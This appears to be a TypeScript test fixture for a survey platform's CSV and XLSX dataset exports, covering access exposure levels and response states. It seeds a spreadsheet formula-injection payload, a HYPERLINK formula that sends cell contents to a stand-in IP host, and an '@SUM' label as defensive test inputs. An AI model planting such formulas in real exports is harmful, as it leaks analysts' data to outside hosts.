import { randomUUID } from 'node:crypto';
import { strFromU8, unzipSync } from 'fflate';
import { asSystem } from '#lib/server/database/asActor.ts';
import type { Database } from '#lib/server/database/database.ts';
import { json } from '#lib/server/database/json.ts';
import type { DatasetFormat, DatasetKind } from '#lib/terms.ts';
import { openDatasetFile, requestDataset } from '#lib/server/dataset/dataset.ts';
import { makeDatasets } from '#lib/server/dataset/make.ts';
import type { AnswerStatus, AnswerValue } from '#lib/xlsform/answers.ts';
import type { Definition, Exposure } from '#lib/xlsform/definition.ts';
import { smallDefinition } from './definition.ts';
import { type Person, type World, buildWorld } from './world.ts';

/** What an analyst's spreadsheet must never run. */
export const FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"open")';
const say = (en: string) => ({ en, id: `${en} (id)` });

const definition: Definition = {
	...smallDefinition,
	choices: {
		...smallDefinition.choices,
		rights: ['strike', 'join'].map((name) => ({ name, label: say(`To ${name}`) })),
		sectors: ['fishing', 'domestic'].map((name) => ({ name, label: say(`Sector ${name}`) })),
		treaties: [{ name: 'c189', label: say('C189') }],
		people: [{ name: 'person', label: say('persons') }]
	},
	areas: [
		...smallDefinition.areas,
		{
			name: 'tables',
			number: 3,
			title: say('Tables'),
			short: say('Tables'),
			intro: say('Tables'),
			kind: 'issue',
			questions: [
				{
					name: 'rights',
					number: '3.1',
					type: 'select_multiple',
					label: say('@SUM(A1) which rights?'),
					list: 'rights',
					exposure: 'public'
				},
				{
					name: 'hours',
					number: '3.2',
					type: 'matrix',
					label: say('Hours'),
					exposure: 'public',
					matrix: {
						rows: 'sectors',
						columns: [
							{ name: 'daily', label: say('A day'), type: 'number', unit: say('hours') },
							{ name: 'paid', label: say('Paid'), type: 'choice', list: 'yes_no' }
						]
					}
				},
				{
					name: 'balance',
					number: '3.3',
					type: 'number',
					label: say('Balance'),
					exposure: 'public',
					units: 'people',
					year: true
				},
				{
					name: 'treaties',
					number: '3.4',
					type: 'treaty',
					label: say('Treaties'),
					exposure: 'public',
					instruments: 'treaties'
				},
				{
					name: 'order',
					number: '3.5',
					type: 'rank',
					label: say('Order'),
					list: 'rights',
					exposure: 'public'
				}
			]
		}
	]
};

interface Given {
	value?: AnswerValue;
	status?: AnswerStatus;
	exposure?: Exposure;
	reason?: string;
}

/** Puts a submission in the tables as the verbs would leave it. */
async function submit(
	world: World,
	country: 'KH' | 'ID',
	area: string,
	state: 'submitted' | 'accepted' | 'reopened',
	answers: Record<string, Given>
) {
	const response_id = await world.responseId(country, area);
	const whose = {
		study_id: world.studyId,
		response_id,
		delegation_id: world.delegations[country]
	};
	await asSystem(world.system.db, async (trx) => {
		const moves = { submitted: 1, accepted: 2, reopened: 3 }[state];
		for (const next of (['submitted', 'accepted', 'reopened'] as const).slice(0, moves))
			await trx
				.updateTable('responses')
				.set({ state: next, submission: 1, submitted_at: new Date('2026-03-04T05:06:07Z') })
				.where('id', '=', response_id)
				.execute();
		const submission_id = randomUUID();
		await trx
			.insertInto('submissions')
			.values({
				id: submission_id,
				...whose,
				number: 1,
				submitted_by: world.accounts[country === 'KH' ? 'sokha' : 'budi']
			})
			.execute();
		for (const [question, given] of Object.entries(answers))
			await trx
				.insertInto('submitted_answers')
				.values({
					...whose,
					submission_id,
					round_id: world.roundId,
					answer_id: randomUUID(),
					question,
					revision: 1,
					status: given.status ?? 'answered',
					value: json(given.value ?? null) as never,
					reason: given.reason ?? null,
					exposure: given.exposure ?? 'public',
					is_accepted: state !== 'submitted'
				})
				.execute();
	});
	return response_id;
}

async function addEvidence(world: World, responseId: string, question: string, exposure: Exposure) {
	await asSystem(world.system.db, (trx) =>
		trx
			.insertInto('evidence')
			.values({
				study_id: world.studyId,
				round_id: world.roundId,
				response_id: responseId,
				delegation_id: world.delegations.KH,
				question,
				kind: 'law',
				citation: `MARK-EVIDENCE-${exposure}`,
				exposure,
				added_by: world.accounts.sokha,
				is_submitted: true,
				is_accepted: true
			})
			.execute()
	);
}

/** Asks as this person, lets the job run, gives the bytes as the person downloads them. */
export async function make(
	world: World,
	person: Person,
	kind: DatasetKind,
	format: DatasetFormat,
	language = 'en'
): Promise<Uint8Array> {
	const ctx = world.as(person);
	const id = await requestDataset(ctx, { roundId: world.roundId, kind, format, language });
	await makeDatasets(world.system);
	const file = await openDatasetFile(ctx, world.roundId, id);
	return new Uint8Array(await new Response(file.stream).arrayBuffer());
}

/** Every byte as text; a workbook is unpacked first. */
export function textOf(bytes: Uint8Array, format: DatasetFormat): string {
	if (format !== 'xlsx') return strFromU8(bytes);
	return Object.entries(unzipSync(bytes))
		.map(([name, part]) => name + strFromU8(part))
		.join('\n');
}

/** RFC 4180 into records by column. */
export function readCsv(bytes: Uint8Array): { header: string[]; rows: Record<string, string>[] } {
	const records: string[][] = [[]];
	for (const [, quoted, plain, end] of strFromU8(bytes.subarray(3)).matchAll(
		/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g
	)) {
		records.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'));
		if (end === '\r\n') records.push([]);
	}
	const [header = [], ...rows] = records.slice(0, -1);
	return {
		header,
		rows: rows.map((row) => Object.fromEntries(header.map((name, at) => [name, row[at] ?? ''])))
	};
}

/**
 * A world with submitted answers. Every text that only some may read begins with MARK and says
 * why: its exposure, or that its response is not accepted.
 */
export async function buildDatasetWorld(database: Database): Promise<World> {
	const world = await buildWorld(database, definition);
	const justice = await submit(world, 'KH', 'justice', 'accepted', {
		can_complain: { value: 'yes' },
		obstacles: { value: 'MARK-TEAM distance', exposure: 'study_team' },
		detained: { value: 'MARK-COORDINATORS a name', exposure: 'coordinators' },
		cases: { status: 'not_safe' }
	});
	await addEvidence(world, justice, 'can_complain', 'public');
	await addEvidence(world, justice, 'can_complain', 'coordinators');
	await submit(world, 'KH', 'return', 'accepted', {
		helped: { status: 'not_applicable', reason: 'MARK-REASON nobody returns' },
		how: { value: FORMULA }
	});
	await submit(world, 'KH', 'tables', 'accepted', {
		rights: { value: ['strike'] },
		hours: { value: { domestic: { daily: 16 }, fishing: { paid: 'no', daily: 12.5 } } },
		balance: { value: { value: -5, unit: 'person', year: 2025 } },
		treaties: { value: { c189: { verdict: 'corrected', correction: 'MARK-CORRECTION' } } },
		order: { value: ['join', 'strike'] }
	});
	await submit(world, 'ID', 'return', 'submitted', { how: { value: 'MARK-NOT-ACCEPTED' } });
	await submit(world, 'ID', 'justice', 'reopened', { can_complain: { value: 'MARK-REOPENED' } });
	return world;
}
